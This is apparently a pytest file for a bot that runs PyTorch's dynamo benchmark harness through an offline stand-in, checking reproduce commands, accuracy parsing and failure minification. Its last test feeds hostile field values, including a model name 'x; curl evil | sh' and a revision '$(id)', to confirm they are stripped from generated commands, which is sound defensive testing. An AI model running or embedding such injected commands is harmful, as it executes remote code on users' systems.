"""PyTorch's harness as a source, through a stand-in written for these tests
(tests/data/fake_pytorch/benchmarks/dynamo: the real harness's command line and CSV columns, real
tiny models judged with torch._dynamo.utils.same). The real harness needs a pytorch checkout and
the model suites; the stand-in runs offline in seconds."""

from __future__ import annotations

import json
import shlex
import shutil
import subprocess
from pathlib import Path

import pytest

from bot.records import CheckError, CheckRow
from bot.suites.harness import (
    _accuracy_from_output,
    harness_argv,
    harness_models,
    parse_list_line,
    reproduce_command,
    without_progress_bars,
)

FAKE = Path(__file__).resolve().parent / "data" / "fake_pytorch"


def test_model_lists_in_both_formats_and_the_batch_size_reach_the_harness(tmp_path):
    assert parse_list_line("adv_inception_v3 128") == ("adv_inception_v3", 128)
    assert parse_list_line("BertForMaskedLM,4") == ("BertForMaskedLM", 4)
    assert parse_list_line("ghostnet_100") == ("ghostnet_100", None)
    # --list shows the batch size a check uses: the harness's accuracy-mode default for the suite
    # (timm: 8, torchbench: 4), not the performance list's
    for suite, bs in (("torchbench", 4), ("timm_models", 8)):
        models = harness_models(str(FAKE), suite, device="cpu")
        assert [(m.name, m.batch_size) for m in models] == [("relu_mlp", bs), ("tanh_mlp", bs)]
        assert f"batch size {bs} (the harness's accuracy-mode default" in models[0].description
    from bot.check.settings import Settings

    m = harness_models(str(FAKE), "timm_models", batch_size=2)[0]
    assert m.batch_size == 2 and "batch size 2 (as given" in m.description
    argv = harness_argv(m.spec, Settings(), str(tmp_path / "out.csv"))
    assert argv[argv.index("--batch-size") + 1] == "2" and "--inductor" in argv and "--only" in argv


def test_the_reproduce_command_is_the_plain_harness_command_and_runs_as_printed():
    from bot.check.settings import Settings

    spec = harness_models(str(FAKE), "timm_models")[0].spec
    assert reproduce_command(spec, Settings(), 8) == (
        "python benchmarks/dynamo/timm_models.py --accuracy --inference --float32 --devices cpu --inductor "
        "--only relu_mlp --batch-size 8")
    cmd = reproduce_command(spec, Settings(config={"inductor.cpp.inject_relu_bug_TESTING_ONLY": "accuracy"}), 8)
    argv = shlex.split(cmd)
    assert argv[:2] == ["python", "-c"] and argv[3:5] == ["benchmarks/dynamo/timm_models.py", "--accuracy"]
    assert 'torch._inductor.config.cpp.inject_relu_bug_TESTING_ONLY = "accuracy"' in argv[2]
    compile(argv[2], "<reproduce>", "exec")  # the boot line is Python


def test_harness_output_loses_its_progress_bars_and_keeps_the_accuracy_figures():
    out = ("Downloading: 100%|##########| 1.2k/1.2k [00:00<00:00, 3.1MB/s]\n"
           "loading\r 10%|#         | 1/10\r100%|##########| 10/10 [00:01<00:00]\n"
           "E1123 utils.py:3538] Accuracy failed for key name logits\n"
           "E1123 utils.py:3706] RMSE (res-fp64): 0.56658, (ref-fp64): 0.00012 and shape=torch.Size([4, 4]). "
           "res.dtype: torch.float32, multiplier: 3.000000, tol: 0.010000, "
           "use_larger_multiplier_for_smaller_tensor: 0\n"
           "cpu  eval  MobileBertForMaskedLM  fail_accuracy\n")
    clean = without_progress_bars(out)
    assert "%|" not in clean and "Accuracy failed for key name logits" in clean
    row = CheckRow(status="fail_accuracy", failure_class="accuracy",
                   error=CheckError(type="fail_accuracy", message="fail_accuracy"))
    _accuracy_from_output(row, clean)
    assert row.accuracy.to_json() == {"rmse_res": 0.56658, "rmse_ref": 0.00012, "tolerance": 0.01}
    assert row.error.output_key == "logits" and "fail_accuracy" not in row.error.message
    assert "RMSE compiled vs fp64 0.56658" in row.error.message


def _git_checkout(tmp_path) -> Path:
    """The stand-in as a git checkout, with a repro.py of the user's own at its root and pytorch's
    ignore rules for bytecode."""
    pytorch = tmp_path / "pytorch"
    shutil.copytree(FAKE, pytorch)
    (pytorch / ".gitignore").write_text("__pycache__/\n*.pyc\n")
    (pytorch / "repro.py").write_text("# the user's own repro\n")
    git = ["git", "-C", str(pytorch), "-c", "user.email=t@example.com", "-c", "user.name=t"]
    for args in (["init", "-q"], ["add", "-A"], ["commit", "-q", "-m", "checkout"]):
        subprocess.run(git + args, check=True, timeout=60)
    return pytorch


@pytest.mark.slow
def test_harness_failures_end_with_verified_repros_and_leave_the_checkout_as_it_was(tmp_path, bot):
    """Accuracy and compile error through the stand-in harness (which calls torch._dynamo.reset()
    before compiling, as the real one does): the check's rerun doubles as the capture, minify
    runs the harness at most once more per failure, and `git status` of the checkout stays clean."""
    pytorch = _git_checkout(tmp_path)
    docs = []
    for bug, models in (("accuracy", "relu_mlp,tanh_mlp"), ("compile_error", "relu_mlp")):
        out = tmp_path / f"run-{bug}"
        proc = bot("check", "--pytorch", pytorch, "--harness-suite", "timm_models", "--models", models,
                   "--batch-size", "2", "--config", f"inductor.cpp.inject_relu_bug_TESTING_ONLY={bug}",
                   "--out", out, "--reruns", "2")
        doc = json.loads((out / "results.json").read_text())
        assert doc["settings"]["source"] == "harness", proc.stderr[-2000:]
        docs.append(doc)
    rows = {r["model"]: r for r in docs[0]["checks"]}
    acc, cerr = rows["relu_mlp"], docs[1]["checks"][0]
    assert (acc["status"], acc["failure_class"]) == ("fail_accuracy", "accuracy")
    assert rows["tanh_mlp"]["status"] == "pass" and acc["batch_size"] == 2
    assert acc["stats"]["unique_graphs"] == 1
    assert acc["accuracy"]["rmse_res"] > acc["accuracy"]["tolerance"] > 0
    assert cerr["failure_class"] == "compile_error" and cerr["compile_frames"] == 1
    for row, level in ((acc, 3), (cerr, 2)):   # deterministic: one rerun of two, and it captured
        assert row["reruns"] == 1 and row["deterministic"] and row["capture"]["repro_level"] == level
        assert row["reproduce"].endswith("benchmarks/dynamo/timm_models.py --accuracy --inference --float32 "
                                         "--devices cpu --inductor --only relu_mlp --batch-size 2")
        assert len(row["harness"]["revision"]) == 40 and row["harness"]["script"] == "benchmarks/dynamo/timm_models.py"
    logs = {}
    for row, cls in ((acc, "accuracy"), (cerr, "compile_error")):   # the same check id: a run each
        run = tmp_path / f"run-{cls}"
        proc = bot("minify", "--out", run, "--verify-runs", "3", "--no-bisect")
        assert proc.returncode == 1, proc.stderr[-4000:]
        logs[cls] = (run / "failures" / row["id"] / "minifier.log").read_text()
        f = json.loads((run / "failures" / row["id"] / "failure.json").read_text())
        r = f["repro"]
        assert (f["class"], f["stage"], r["status"]) == (cls, "inductor", "minimized"), r["reason"]
        assert r["verification"]["failed_same_way"] == 3
        assert [g["op"] for g in r["graph"]] == ["aten.relu.default"]
        assert (r["capture"]["graph"], r["capture"]["graphs"]) == (1, 1)
        assert "captured by the check's own rerun" in r["capture"]["note"]
        assert [d["key"] for d in f["config"]["minimal"]] == ["inductor.cpp.inject_relu_bug_TESTING_ONLY"]
    # harness runs on top of the sweep: none. The compile error's level-2 launcher settles the stage;
    # the accuracy failure's level-3 graphs are minified first, and one of them fails on its own as
    # inductor compiles it, which settles it too (localize would run only if none did)
    assert logs["accuracy"].count("$ harness timm_models relu_mlp") == 0
    assert logs["compile_error"].count("$ harness timm_models relu_mlp") == 0
    status = subprocess.run(["git", "-C", str(pytorch), "status", "--porcelain", "--ignored=no"],
                            capture_output=True, text=True, timeout=60, check=True).stdout
    assert status == "", status
    assert (pytorch / "repro.py").read_text() == "# the user's own repro\n"


@pytest.mark.slow
def test_a_harness_that_cannot_set_up_is_a_setup_failure(tmp_path, bot):
    pytorch = tmp_path / "pytorch"
    shutil.copytree(FAKE, pytorch)
    script = pytorch / "benchmarks" / "dynamo" / "torchbench.py"
    # what huggingface.py does on import when the model hub is out of reach
    script.write_text('raise OSError("We couldn\'t connect to \'https://huggingface.co\' to load the files, and '
                      'couldn\'t find them in the cached files.")\n' + script.read_text())
    out = tmp_path / "run"
    bot("check", "--pytorch", pytorch, "--models", "relu_mlp", "--out", out)
    row = json.loads((out / "results.json").read_text())["checks"][0]
    assert row["failure_class"] == "setup_error" and "couldn't connect" in row["error"]["message"]
    proc = bot("minify", "--out", out)
    assert proc.returncode == 0
    f = json.loads((out / "failures" / row["id"] / "failure.json").read_text())
    assert f["repro"]["status"] == "none" and "could not be set up" in f["repro"]["reason"]


def test_a_harness_issue_gives_the_plain_harness_command_and_the_harness_versions():
    """The issue's "Reproduce locally" starts with the harness command a compiler engineer types
    (the batch size the harness used, the checkout's revision); the versions table names the
    checkout, the model libraries and the CPU's vector ISA. Every field is checked first: a run
    directory may come from a pull request's job."""
    from bot.report.context import _harness_versions, reproduce_command

    rev = "a" * 40
    check = {"model": "MobileBertForMaskedLM", "backend": "inductor", "mode": "inference", "dtype": "float32",
             "device": "cpu", "config": {}, "batch_size": 4,
             "spec": {"source": "harness", "suite": "huggingface", "model": "MobileBertForMaskedLM"},
             "harness": {"revision": rev, "transformers": "5.23.0", "timm": None, "cpu_isa": "avx2"}}
    lines = reproduce_command(CheckRow.from_json(check), has_repro=True).splitlines()
    assert lines[1] == f"cd PYTORCH_CHECKOUT    # a pytorch checkout at {rev}"
    assert lines[2] == ("python benchmarks/dynamo/huggingface.py --accuracy --inference --float32 --devices cpu "
                        "--inductor --only MobileBertForMaskedLM --batch-size 4    # the plain harness run")
    assert _harness_versions(CheckRow.from_json(check)) == [("harness revision", rev), ("transformers", "5.23.0"),
                                        ("cpu vector ISA", "avx2")]
    hostile = dict(check, model="x; curl evil | sh",
                   harness={"revision": "$(id)", "transformers": "<b>", "cpu_isa": "a b"})
    text = reproduce_command(CheckRow.from_json(hostile), has_repro=False)
    assert "benchmarks/dynamo" not in text and "curl" not in text and "$(id)" not in text
    assert _harness_versions(CheckRow.from_json(hostile)) == []
